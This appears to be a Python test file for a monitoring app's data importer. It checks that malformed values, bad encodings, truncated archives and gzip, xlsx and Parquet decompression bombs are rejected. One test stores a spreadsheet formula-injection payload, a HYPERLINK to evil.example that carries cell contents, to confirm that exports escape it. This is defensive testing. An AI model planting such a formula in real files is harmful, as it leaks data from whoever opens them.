"""Hostile and careless import files: one clear error naming file, row, column and rule; nothing written; no job
left running (issue #13, defects 1, 6 and 7)."""

from __future__ import annotations

import gzip
import io
import re
import zipfile

import openpyxl
import pytest

from meili import intake
from meili.monitoring.importing import ImportFailed, run_import
from meili.monitoring.models import ImportJob, Observation
from tests.monitoring.conftest import archive_text

pytestmark = pytest.mark.django_db

LONG = "site,time,parameter,value\n"


def _fails(path, *fragments):
    with pytest.raises(ImportFailed) as info:
        run_import("air", [path])
    message = str(info.value)
    for fragment in fragments:
        assert fragment in message, message
    assert Observation.objects.count() == 0
    job = ImportJob.objects.get(pk=info.value.job.pk)
    assert job.state == ImportJob.State.FAILED and job.finished is not None
    assert "Traceback" not in job.error
    return message


@pytest.mark.parametrize(
    ("cell", "rule"),
    [
        # the value grammar (meili.standards.values) reads no infinity or NaN as a number
        ("inf", "is not a number"),
        ("-inf", "is not a number"),
        ("NaN", "is not a number"),
        ("1e400", "not a finite number"),
        ("1e308", "physically possible range"),
        ("2e9", "physically possible range"),
    ],
)
def test_a_non_finite_or_impossible_value_is_located_and_nothing_is_written(air_sites, write, cell, rule):
    text = re.sub(r"20250101,5,NO2,[^,]+,", f"20250101,5,NO2,{cell},", archive_text(days=1), count=1)
    message = _fails(write("bad.csv", text), "bad.csv", "row ", "column 1662A", rule)
    assert cell in message


def test_co_in_mg_per_cubic_metre_has_its_own_bound(air_sites, write):
    _fails(write("co.csv", LONG + "1664A,2025-01-01 01:00,CO,2000000\n"), "co.csv", "row 2", "column CO", "CO")
    job = run_import("air", [write("ok.csv", LONG + "1664A,2025-01-01 01:00,CO,900\n")], evaluate=False)
    assert job.added == 1


@pytest.mark.parametrize("time", ["9999-01-01 00:00", "0001-01-01 00:00", "2200-05-01 10:00"])
def test_a_time_outside_the_window_is_located(air_sites, write, time):
    _fails(write("t.csv", LONG + f"1664A,2025-01-01 01:00,PM2.5,20\n1664A,{time},PM2.5,20\n"), "t.csv", "row 3", "time")


def test_water_ph_above_14_is_refused(org, write):
    from meili.monitoring.models import Site

    Site.objects.create(medium="water", code="W1", name="W1", water_type="river", target_class=3)
    path = write("w.csv", LONG + "W1,2025-01-05 10:00,pH,15\n")
    with pytest.raises(ImportFailed) as info:
        run_import("water", [path])
    assert "row 2" in str(info.value) and "pH lies between 0 and 14" in str(info.value)


def test_header_only_file_is_a_clear_error(air_sites, write):
    _fails(write("empty.csv", LONG), "empty.csv", "no values")


def test_all_parameters_unknown_is_a_clear_error(air_sites, write):
    _fails(write("u.csv", LONG + "1664A,2025-01-01 01:00,benzene,3\n"), "u.csv", "benzene", "nothing to import")


def test_gbk_file_is_read_as_chinese(air_sites, tmp_path):
    path = tmp_path / "gbk.csv"
    path.write_bytes("点位编码,时间,细颗粒物\n1664A,2025-01-01 01:00,20\n".encode("gbk"))
    job = run_import("air", [path], evaluate=False)
    assert job.added == 1 and Observation.objects.get().parameter == "PM2.5"


def test_utf8_with_bom_is_read(air_sites, tmp_path):
    path = tmp_path / "bom.csv"
    path.write_bytes("\ufeff点位编码,时间,细颗粒物\n1664A,2025-01-01 01:00,20\n".encode())
    assert run_import("air", [path], evaluate=False).added == 1


def test_undecodable_bytes_are_refused_with_their_line(air_sites, tmp_path):
    path = tmp_path / "bin.csv"
    path.write_bytes(LONG.encode() + b"1664A,2025-01-01 01:00,PM2.5,20\n\x81\x20\xff\xfe\n")
    _fails(path, "bin.csv", "row 3", "neither UTF-8 nor GB18030")


def test_nul_byte_is_refused_with_row_and_column(air_sites, write):
    _fails(write("nul.csv", LONG + "1664A,2025-01-01 01:00,PM2.5,20\x00\n"), "nul.csv", "row 2", "column value", "NUL")


def test_gzip_bomb_is_stopped_at_the_ratio(air_sites, tmp_path, monkeypatch):
    monkeypatch.setattr(intake, "RATIO_FLOOR", 1024)
    path = tmp_path / "bomb.csv.gz"
    path.write_bytes(gzip.compress((LONG + "1664A,2025-01-01 01:00,PM2.5,20\n" * 20000).encode()))
    _fails(path, "bomb.csv.gz", "decompression bomb")


def test_gzip_over_the_size_limit_is_refused(air_sites, tmp_path, monkeypatch):
    monkeypatch.setattr(intake, "MAX_EXPANDED", 1000)
    path = tmp_path / "big.csv.gz"
    path.write_bytes(gzip.compress((LONG + "1664A,2025-01-01 01:00,PM2.5,20\n" * 100).encode()))
    _fails(path, "big.csv.gz", "expands to more than")


def test_truncated_gzip_is_refused(air_sites, tmp_path):
    path = tmp_path / "cut.csv.gz"
    path.write_bytes(gzip.compress((LONG + "1664A,2025-01-01 01:00,PM2.5,20\n").encode())[:-12])
    _fails(path, "cut.csv.gz", "gzip")


def _workbook(rows) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_formula_without_cached_value_is_refused(air_sites, tmp_path):
    path = tmp_path / "f.xlsx"
    path.write_bytes(_workbook([["点位编码", "时间", "细颗粒物"], ["1664A", "2025-01-01 01:00", "=10+10"]]))
    _fails(path, "f.xlsx", "row 2", "column C", "formula without a stored result")


def test_xlsx_bomb_is_refused_before_the_reader_opens_it(air_sites, tmp_path, monkeypatch):
    monkeypatch.setattr(intake, "RATIO_FLOOR", 4096)
    rows = [["点位编码", "时间", "细颗粒物"]] + [["1664A", "2025-01-01 01:00", 20]] * 3000
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(_workbook(rows))
    monkeypatch.setattr(intake, "MAX_RATIO", 3)
    _fails(path, "bomb.xlsx", "decompression bomb")


def test_a_zip_lying_about_its_size_is_stopped_while_streaming(air_sites, tmp_path, monkeypatch):
    monkeypatch.setattr(intake, "MAX_EXPANDED", 50_000)
    path = tmp_path / "lie.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", "<worksheet>" + " " * 200_000 + "</worksheet>")
    _fails(path, "lie.xlsx", "expands to more than")


def test_an_unexpected_error_fails_the_job_and_writes_nothing(air_sites, write, monkeypatch):
    from meili.monitoring import importing

    def broken(*args):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(importing, "_retire", broken)
    _fails(write("a.csv", archive_text(days=1)), "a.csv", "nothing was written", "disk on fire")


def test_evaluation_failure_after_a_write_ends_the_job(air_sites, write, monkeypatch):
    from meili.monitoring import evaluation

    def broken(*args):
        raise ZeroDivisionError

    monkeypatch.setattr(evaluation, "evaluate_affected", broken)
    with pytest.raises(ImportFailed) as info:
        run_import("air", [write("a.csv", archive_text(days=1))])
    job = ImportJob.objects.get(pk=info.value.job.pk)
    assert job.state == ImportJob.State.FAILED and "meili import evaluate" in job.error
    assert job.added == Observation.objects.count() > 0


def test_site_names_reach_the_sites_export_as_text(client, users, air_sites):
    import csv

    from meili.monitoring.models import Site

    evil = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
    Site.objects.filter(code="1664A").update(name=evil)
    client.force_login(users["analyst"])
    text = client.get("/monitoring/sites/?format=csv").content.decode("utf-8-sig")
    assert "'" + evil in [c for row in csv.reader(io.StringIO(text)) for c in row]
    book = openpyxl.load_workbook(io.BytesIO(client.get("/monitoring/sites/?format=xlsx").content))
    cells = [c for row in book.active.iter_rows() for c in row if c.value == evil]
    assert len(cells) == 1 and cells[0].data_type == "s"


def _parquet(path, rows: int) -> None:
    import polars as pl

    pl.DataFrame(
        {
            "site": ["1664A"] * rows,
            "time": ["2025-01-01 01:00"] * rows,
            "parameter": ["PM2.5"] * rows,
            "value": [20.0] * rows,
        }
    ).write_parquet(path, compression="zstd")


def test_parquet_bomb_is_refused_from_its_footer(air_sites, tmp_path, monkeypatch):
    monkeypatch.setattr(intake, "RATIO_FLOOR", 4096)
    path = tmp_path / "bomb.parquet"
    _parquet(path, 100_000)
    assert path.stat().st_size < 10_000  # a few kilobytes that declare megabytes
    _fails(path, "bomb.parquet", "decompression bomb")


def test_parquet_over_the_size_limit_is_refused(air_sites, tmp_path, monkeypatch):
    monkeypatch.setattr(intake, "MAX_EXPANDED", 50_000)
    path = tmp_path / "big.parquet"
    _parquet(path, 20_000)
    _fails(path, "big.parquet", "expands to more than")


def test_parquet_over_the_row_limit_is_refused(air_sites, tmp_path, monkeypatch):
    monkeypatch.setattr(intake, "MAX_PARQUET_ROWS", 1000)
    path = tmp_path / "rows.parquet"
    _parquet(path, 1001)
    _fails(path, "rows.parquet", "declares 1001 rows, more than 1000")


def test_a_truncated_parquet_file_is_refused(air_sites, tmp_path):
    path = tmp_path / "cut.parquet"
    _parquet(path, 10)
    path.write_bytes(path.read_bytes()[:-20])
    _fails(path, "cut.parquet", "not a complete Parquet file")


def test_a_parquet_file_within_the_limits_imports(air_sites, tmp_path):
    path = tmp_path / "ok.parquet"
    _parquet(path, 1)
    assert run_import("air", [path], evaluate=False).added == 1
